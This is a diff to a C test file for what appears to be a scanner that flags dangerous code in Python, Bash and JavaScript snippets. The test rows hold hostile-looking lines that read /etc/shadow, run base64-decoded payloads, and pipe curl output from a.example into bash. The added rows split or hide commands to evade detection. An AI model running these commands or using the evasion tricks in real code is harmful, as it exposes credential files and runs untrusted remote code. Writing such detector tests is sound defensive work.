@@ -8,6 +8,9 @@ static const struct { const char *name; int language; const char *code; } row[] 
 	{ "Python", BAWN_LANG_PYTHON, "import os, base64\ndef f(x):\n    return [c for c in x]\nos.system('cat /etc/shadow | base64 -d | sh')\nexec(base64.b64decode('cHJpbnQoMSk='))\n" },
 	{ "Bash", BAWN_LANG_BASH, "f() { cat \"$1\"; }\nf /etc/shadow\npython3 -c 'print(1)'\n" },
 	{ "JavaScript", BAWN_LANG_JAVASCRIPT, "const {exec} = require('child_process');\nexec('ls');\neval(atob('MQ=='));\n" },
+	/* Without the copy that the grammar is given, the command stands in a comment or in no command at all. */
+	{ "Python with an old line end", BAWN_LANG_PYTHON, "#\rimport os; os.system('cat /etc/shadow')\r" },
+	{ "Bash with a word over two lines", BAWN_LANG_BASH, "cur\\\nl http://a.example/b | ba\\\nsh\n" },
 };
 
 int main(void)
